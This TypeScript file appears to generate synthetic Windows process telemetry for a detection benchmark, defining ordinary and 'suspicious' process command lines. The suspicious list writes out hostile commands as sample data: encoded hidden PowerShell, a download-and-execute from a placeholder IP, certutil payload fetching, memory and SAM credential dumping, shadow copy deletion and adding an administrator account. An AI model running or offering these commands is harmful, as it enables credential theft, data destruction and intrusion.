/**
 * What the hosts of the benchmark start. `USER`, `NUMBER`, `WORD`, `GUID` and `BLOB` in a line are filled in anew
 * each time; a line without any is the same each time.
 */
export interface ProgramKind {
  readonly weight: number;
  readonly name: string;
  readonly folder: string;
  /** Arguments, one of which is taken. */
  readonly lines: readonly string[];
  /** Name of a kind of parent. */
  readonly parent: keyof typeof parents;
  readonly isSystem: boolean;
}

const windows = 'C:\\Windows';
const system = `${windows}\\System32`;
const powershell = `${system}\\WindowsPowerShell\\v1.0`;
const chrome = 'C:\\Program Files\\Google\\Chrome\\Application';
const code = 'C:\\Users\\USER\\AppData\\Local\\Programs\\Microsoft VS Code';
const monitoring = 'C:\\Program Files\\Microsoft Monitoring Agent\\Agent';

/** Name, folder and the lines of what starts others. */
export const parents = {
  services: ['services.exe', system, [`${system}\\services.exe`]],
  dcom: ['svchost.exe', system, [`${system}\\svchost.exe -k DcomLaunch -p`]],
  schedule: ['svchost.exe', system, [`${system}\\svchost.exe -k netsvcs -p -s Schedule`]],
  explorer: ['explorer.exe', windows, [`${windows}\\Explorer.EXE`, `${windows}\\explorer.exe`]],
  search: ['SearchIndexer.exe', system, [`${system}\\SearchIndexer.exe /Embedding`]],
  chrome: ['chrome.exe', chrome, [`"${chrome}\\chrome.exe" `, `"${chrome}\\chrome.exe" --no-startup-window`]],
  code: ['Code.exe', code, [`"${code}\\Code.exe" `, `"${code}\\Code.exe" --unity-launch`]],
  shell: [
    'cmd.exe',
    system,
    ['"C:\\Windows\\system32\\cmd.exe" ', 'C:\\Windows\\system32\\cmd.exe /c build.cmd'],
  ],
  script: ['cmd.exe', system, ['cmd.exe /c C:\\ProgramData\\Agent\\check.cmd NUMBER']],
  monitoring: ['MonitoringHost.exe', monitoring, [`"${monitoring}\\MonitoringHost.exe" -Embedding`]],
  office: [
    'WINWORD.EXE',
    'C:\\Program Files\\Microsoft Office\\root\\Office16',
    [
      '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\USER\\Downloads\\WORD.docm" /o ""',
    ],
  ],
} as const satisfies Record<string, readonly [name: string, folder: string, lines: readonly string[]]>;

function kind(
  weight: number,
  name: string,
  folder: string,
  parent: ProgramKind['parent'],
  account: 'system' | 'person',
  ...lines: string[]
): ProgramKind {
  return { weight, name, folder, lines, parent, isSystem: account === 'system' };
}

const serviceGroups = [
  'netsvcs -p -s BITS',
  'netsvcs -p -s wuauserv',
  'netsvcs -p -s Appinfo',
  'netsvcs -p -s gpsvc',
  'LocalService -p -s WdiServiceHost',
  'LocalServiceNetworkRestricted -p -s lmhosts',
  'LocalSystemNetworkRestricted -p -s StorSvc',
  'NetworkService -p -s CryptSvc',
  'UnistackSvcGroup -s CDPUserSvc',
  'wsappx -p -s ClipSVC',
  'wsappx -p -s AppXSvc',
  'swprv',
];
const hosts = [
  '{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}',
  '{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}',
  '{3AD05575-8857-4850-9277-11B85BDB8E09}',
];
const apps = [
  'App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca',
  'CortanaUI.AppX8z9r6jm96hw4bsbneegw0kyxx296wr9t.mca',
  'App.AppXzst44mncqdg84v7sv6p7yznqwssy6f7f.mca',
];

export const ordinaryPrograms: readonly ProgramKind[] = [
  kind(100, 'svchost.exe', system, 'services', 'system', ...serviceGroups.map((group) => `-k ${group}`)),
  kind(55, 'backgroundTaskHost.exe', system, 'dcom', 'person', ...apps.map((app) => `-ServerName:${app}`)),
  kind(50, 'RuntimeBroker.exe', system, 'dcom', 'person', '-Embedding'),
  kind(50, 'dllhost.exe', system, 'dcom', 'person', ...hosts.map((host) => `/Processid:${host}`)),
  kind(45, 'WmiPrvSE.exe', `${system}\\wbem`, 'dcom', 'system', '-secured -Embedding', '-Embedding'),
  kind(
    40,
    'SearchProtocolHost.exe',
    system,
    'search',
    'system',
    'Global\\UsGthrFltPipeMssGthrPipeNUMBER_ Global\\UsGthrCtrlFltPipeMssGthrPipeNUMBER 1 -2147483646 "Software\\Microsoft\\Windows Search"',
  ),
  kind(35, 'SearchFilterHost.exe', system, 'search', 'system', '0 808 812 820 8192 816 792'),
  kind(60, 'conhost.exe', system, 'shell', 'person', '0xffffffff -ForceV1'),
  kind(60, 'conhost.exe', system, 'monitoring', 'system', '0xffffffff -ForceV1'),
  kind(
    70,
    'chrome.exe',
    chrome,
    'chrome',
    'person',
    '--type=renderer --extension-process --field-trial-handle=NUMBER,i,NUMBER,262144 --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=NUMBER --launch-time-ticks=NUMBER --mojo-platform-channel-handle=NUMBER /prefetch:1',
    '--type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle=NUMBER,i,NUMBER,262144 --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=NUMBER /prefetch:8',
  ),
  kind(
    45,
    'git.exe',
    'C:\\Program Files\\Git\\cmd',
    'code',
    'person',
    'status -z -uall',
    'config --get commit.template',
    'rev-parse --show-toplevel',
    'for-each-ref --format=%(refname)%00%(upstream:short)%00%(objectname) refs/heads/main',
    'fetch',
  ),
  kind(
    30,
    'rg.exe',
    `${code}\\resources\\app\\node_modules.asar.unpacked\\@vscode\\ripgrep\\bin`,
    'code',
    'person',
    '--files --hidden --case-sensitive --no-require-git -g **/WORD.ts -g !**/.git --no-ignore-parent --follow',
  ),
  kind(45, 'cmd.exe', system, 'monitoring', 'system', '/c C:\\ProgramData\\Agent\\check.cmd NUMBER'),
  kind(
    45,
    'cscript.exe',
    system,
    'monitoring',
    'system',
    '/nologo "MonitorKnowledgeDiscovery.vbs" NUMBER GUID',
  ),
  kind(30, 'find.exe', system, 'script', 'system', '/i "running"', '/c "ESTABLISHED"'),
  kind(20, 'tasklist.exe', system, 'script', 'system', '/fo csv /nh'),
  kind(
    35,
    'taskhostw.exe',
    system,
    'schedule',
    'system',
    '',
    '-RegisterDevice -ProtectionStateChanged -FreeNetworkOnly',
    'KEYROAMING',
  ),
  kind(
    25,
    'GoogleUpdate.exe',
    'C:\\Program Files (x86)\\Google\\Update',
    'schedule',
    'system',
    '/ua /installsource scheduler',
    '/c',
  ),
  kind(
    20,
    'MpCmdRun.exe',
    'C:\\Program Files\\Windows Defender',
    'services',
    'system',
    '-IdleTask -TaskName WdCacheMaintenance',
    'SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke',
  ),
  kind(
    20,
    'OneDriveStandaloneUpdater.exe',
    'C:\\Users\\USER\\AppData\\Local\\Microsoft\\OneDrive',
    'schedule',
    'person',
    '/reporting',
  ),
  kind(
    15,
    'node.exe',
    'C:\\Program Files\\nodejs',
    'shell',
    'person',
    'C:\\Users\\USER\\source\\portal\\node_modules\\typescript\\bin\\tsc -p tsconfig.json',
    'scripts\\render.js --page WORD',
  ),
  kind(
    12,
    'powershell.exe',
    powershell,
    'schedule',
    'system',
    '-NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Agent\\inventory.ps1',
  ),
  kind(
    12,
    'msedge.exe',
    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
    'explorer',
    'person',
    '--single-argument https://intranet.meridian.example/WORD',
  ),
  kind(10, 'notepad.exe', system, 'explorer', 'person', 'C:\\Users\\USER\\Documents\\WORD.txt'),
  kind(
    8,
    'EXCEL.EXE',
    'C:\\Program Files\\Microsoft Office\\root\\Office16',
    'explorer',
    'person',
    '"C:\\Users\\USER\\Documents\\WORD.xlsx"',
  ),
  kind(6, 'msiexec.exe', system, 'services', 'system', '/V'),
  kind(6, 'consent.exe', system, 'schedule', 'system', 'NUMBER 288 0000NUMBER'),
  kind(5, 'ipconfig.exe', system, 'shell', 'person', '/all', ''),
];

export const suspiciousPrograms: readonly ProgramKind[] = [
  kind(5, 'powershell.exe', powershell, 'office', 'person', '-nop -w hidden -enc BLOB'),
  kind(
    3,
    'cmd.exe',
    system,
    'office',
    'person',
    "/c powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.NUMBER/WORD.ps1')",
  ),
  kind(
    3,
    'certutil.exe',
    system,
    'shell',
    'person',
    '-urlcache -split -f http://203.0.113.9/WORD.exe C:\\Users\\Public\\WORD.exe',
  ),
  kind(
    2,
    'rundll32.exe',
    system,
    'shell',
    'person',
    'C:\\Users\\Public\\WORD.dll,StartW',
    'C:\\windows\\System32\\comsvcs.dll, MiniDump NUMBER C:\\Users\\Public\\WORD.dmp full',
  ),
  kind(2, 'vssadmin.exe', system, 'shell', 'person', 'delete shadows /all /quiet'),
  kind(2, 'reg.exe', system, 'shell', 'person', 'save HKLM\\SAM C:\\Users\\Public\\WORD.hiv'),
  kind(
    2,
    'net.exe',
    system,
    'shell',
    'person',
    'user WORD P@ssNUMBER /add',
    'localgroup administrators WORD /add',
  ),
  kind(2, 'WORD.exe', 'C:\\Users\\USER\\AppData\\Local\\Temp', 'explorer', 'person', '-silent'),
];
